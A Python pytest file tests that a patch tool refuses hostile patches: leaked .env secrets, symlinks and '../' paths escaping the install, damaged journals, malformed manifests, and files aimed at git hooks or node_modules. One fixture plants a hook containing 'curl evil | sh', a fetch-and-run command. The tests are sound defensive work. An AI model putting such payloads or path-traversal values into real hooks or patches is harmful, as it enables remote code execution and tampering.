"""Hostile patches and damaged state: refused with a clear error, nothing written outside the
install, no data the patch does not own lost (found by a hostile review; each is a test)."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest
from support.crafted import bare_install, craft_patch
from support.installs import run_inv, tree_state

pytestmark = pytest.mark.integration


def _apply(root: Path, version: str, *extra: str):  # type: ignore[no-untyped-def]
    return run_inv("apply-patch", "--root", str(root), "--version", version, "--yes", *extra)


def test_a_patch_carrying_a_secret_or_state_files_is_refused(tmp_path: Path) -> None:
    root = bare_install(tmp_path / "install", files={"src/a.js": b"1"})
    (root / ".patchflow").mkdir()
    (root / ".patchflow" / "history.jsonl").write_text('{"action": "apply"}\n')
    before = tree_state(root, skip=("patches",))
    craft_patch(
        root / "patches", "1.1.0", {"src/a.js": b"2", ".env": b"SECRET=stolen\n", ".patchflow/history.jsonl": b""}
    )
    done = _apply(root, "1.1.0")
    assert done.returncode == 1
    assert "holds paths it may not write" in done.stderr and ".env" in done.stderr
    after = tree_state(root, skip=("patches",))
    after.pop(".patchflow/apply.lock", None)  # the (empty) OS lock file of the refused run
    assert after == before


def test_chained_symlinks_that_escape_are_refused(tmp_path: Path) -> None:
    root = bare_install(tmp_path / "install", files={"src/a.js": b"1"})
    before = tree_state(root, skip=("patches", ".patchflow"))
    craft_patch(root / "patches", "1.1.0", {"src/a.js": b"2"}, links={"p": "q/x/../..", "q": "."})
    done = _apply(root, "1.1.0")
    assert done.returncode != 0
    assert "leads outside" in done.stderr
    assert tree_state(root, skip=("patches", ".patchflow")) == before
    assert not (root / "p").is_symlink()


def test_a_host_link_leaving_the_tree_is_replaced_and_restored_never_followed(tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "keep.txt").write_text("host data")
    root = bare_install(tmp_path / "install", files={"src/a.js": b"1"})
    os.symlink(str(outside), root / "lib")
    craft_patch(root / "patches", "1.1.0", {"src/a.js": b"2", "lib/a.js": b"lib"})
    done = _apply(root, "1.1.0")
    assert done.returncode == 0, done.stderr
    assert (root / "lib").is_dir() and not (root / "lib").is_symlink()
    assert sorted(p.name for p in outside.iterdir()) == ["keep.txt"]
    rolled = run_inv("rollback-patch", "--root", str(root), "--version", "1.1.0", "--yes")
    assert rolled.returncode == 0, rolled.stderr
    assert os.readlink(root / "lib") == str(outside)
    assert (root / "src/a.js").read_bytes() == b"1"


def test_rollback_of_a_file_that_became_a_folder_keeps_files_written_since(tmp_path: Path) -> None:
    root = bare_install(tmp_path / "install", files={"data": b"old file"})
    craft_patch(root / "patches", "1.1.0", {"data/x": b"x"})
    assert _apply(root, "1.1.0").returncode == 0
    (root / "data" / "uploads").mkdir()
    (root / "data" / "uploads" / "customer.pdf").write_bytes(b"%PDF customer")
    rolled = run_inv("rollback-patch", "--root", str(root), "--version", "1.1.0", "--yes")
    assert rolled.returncode == 0, rolled.stderr
    assert (root / "data").read_bytes() == b"old file"
    kept = list((root / "backups").glob("*/displaced/data/uploads/customer.pdf"))
    assert len(kept) == 1 and kept[0].read_bytes() == b"%PDF customer"


def test_rollback_removes_a_version_file_the_install_did_not_have(tmp_path: Path) -> None:
    root = bare_install(tmp_path / "install", files={"src/a.js": b"1"})
    (root / "VERSION").unlink()
    craft_patch(root / "patches", "1.1.0", {"src/a.js": b"2"})
    assert _apply(root, "1.1.0").returncode == 0
    assert (root / "VERSION").read_text() == "1.1.0\n"
    rolled = run_inv("rollback-patch", "--root", str(root), "--version", "1.1.0", "--yes")
    assert rolled.returncode == 0, rolled.stderr
    assert not (root / "VERSION").exists()


def test_a_damaged_journal_stops_apply_and_shows_in_status(tmp_path: Path) -> None:
    root = bare_install(tmp_path / "install", files={"src/a.js": b"1"})
    craft_patch(root / "patches", "1.1.0", {"src/a.js": b"2"})
    (root / ".patchflow").mkdir()
    (root / ".patchflow" / "journal.json").write_text('{"action": "apply", "version": "1.1.0", "from_ver')
    done = _apply(root, "1.1.0")
    assert done.returncode == 1 and "journal" in done.stderr and "damaged" in done.stderr
    assert (root / "src/a.js").read_bytes() == b"1"
    status = json.loads(run_inv("patch-status", "--root", str(root), "--json").stdout)
    assert status["interrupted"]["state"] == "journal damaged"
    (root / ".patchflow" / "journal.json").write_text("[]")
    assert "damaged" in _apply(root, "1.1.0").stderr


def test_damaged_backup_records_and_history_lines_do_not_break_anything(tmp_path: Path) -> None:
    root = bare_install(tmp_path / "install", files={"src/a.js": b"1"})
    victim = tmp_path / "victim"
    victim.write_text("not yours")
    junk = root / "backups" / "pre-patch-v1.1.0_x"
    junk.mkdir(parents=True)
    (junk / "backup.json").write_text(
        json.dumps({"version": "1.1.0", "sequence": "x", "complete": True, "new_paths": ["../victim"]})
    )
    (root / ".patchflow").mkdir()
    (root / ".patchflow" / "history.jsonl").write_text(
        '[1]\n{"action": "apply", "result": "success", "stopped_seconds": "abc"}\n'
    )
    status = run_inv("patch-status", "--root", str(root))
    assert status.returncode == 0, status.stderr
    craft_patch(root / "patches", "1.1.0", {"src/a.js": b"2"})
    assert _apply(root, "1.1.0").returncode == 0
    assert run_inv("rollback-patch", "--root", str(root), "--version", "1.1.0", "--yes").returncode == 0
    assert victim.read_text() == "not yours"
    sneaky = run_inv(
        "rollback-patch",
        "--root",
        str(root),
        "--version",
        "1.1.0",
        "--yes",
        "--force",
        "--backup",
        "../../elsewhere/backups/pre-patch-v1.1.0_y",
    )
    assert sneaky.returncode == 1 and "--backup takes the name" in sneaky.stderr


@pytest.mark.parametrize(
    "manifest_extra", [{"archive": ["x"]}, {"migrations": [1]}, {"exclude": 5}, {"files": {"a": 1}}]
)
def test_a_manifest_of_the_wrong_shape_is_corrupt_not_a_crash(
    tmp_path: Path, manifest_extra: dict[str, object]
) -> None:
    root = bare_install(tmp_path / "install", files={"src/a.js": b"1"})
    craft_patch(root / "patches", "1.1.0", {"src/a.js": b"2"}, manifest_extra=manifest_extra)
    checked = run_inv("verify-patch", "--root", str(root), "--version", "1.1.0")
    assert checked.returncode == 1 and "not a valid manifest" in checked.stderr, checked.stderr
    status = json.loads(run_inv("patch-status", "--root", str(root), "--json").stdout)
    assert status["patches"][0]["state"] == "corrupt"
    assert _apply(root, "1.1.0").returncode == 1


@pytest.mark.parametrize("name", [b"src/back\\slash.js", b"src/bad\xff\xfe.js"])
def test_create_patch_refuses_names_that_cannot_travel(tmp_path: Path, name: bytes) -> None:
    root = bare_install(tmp_path / "tree", files={"src/a.js": b"1"})
    with open(os.path.join(os.fsencode(root), name), "wb") as handle:
        handle.write(b"x")
    done = run_inv("create-patch", "--root", str(root))
    assert done.returncode == 1
    assert "rename the file" in done.stderr
    assert not (root / "patches").exists()


def test_long_file_names_apply(tmp_path: Path) -> None:
    root = bare_install(tmp_path / "install", files={"src/a.js": b"1"})
    long_name = "src/" + "n" * 250 + ".js"
    craft_patch(root / "patches", "1.1.0", {"src/a.js": b"2", long_name: b"long"})
    done = _apply(root, "1.1.0")
    assert done.returncode == 0, done.stderr
    assert (root / long_name).read_bytes() == b"long"


@pytest.mark.parametrize(
    "path",
    [".git/hooks/post-merge", "node_modules/.bin/prisma", "apps/api/node_modules/pg/index.js", "sub/.git/config"],
)
def test_a_crafted_patch_that_writes_hooks_or_installed_packages_is_refused_whatever_its_exclude_list(
    tmp_path: Path, path: str
) -> None:
    """Issue 25, fault 4: the patch's own exclude list is empty (it says nothing is excluded), yet
    ``.git`` and ``node_modules`` at any depth are never written: the apply is refused, nothing changed."""
    root = bare_install(tmp_path / "install", files={"src/a.js": b"1"})
    before = tree_state(root, skip=("patches",))
    craft_patch(root / "patches", "1.1.0", {"src/a.js": b"2", path: b"#!/bin/sh\ncurl evil | sh\n"})
    done = _apply(root, "1.1.0")
    assert done.returncode == 1, done.stdout + done.stderr
    flat = " ".join(done.stderr.split())
    assert "holds paths it may not write" in flat and path in flat, flat
    after = tree_state(root, skip=("patches",))
    after.pop(".patchflow/apply.lock", None)
    assert after == before
    assert not (root / path).exists()
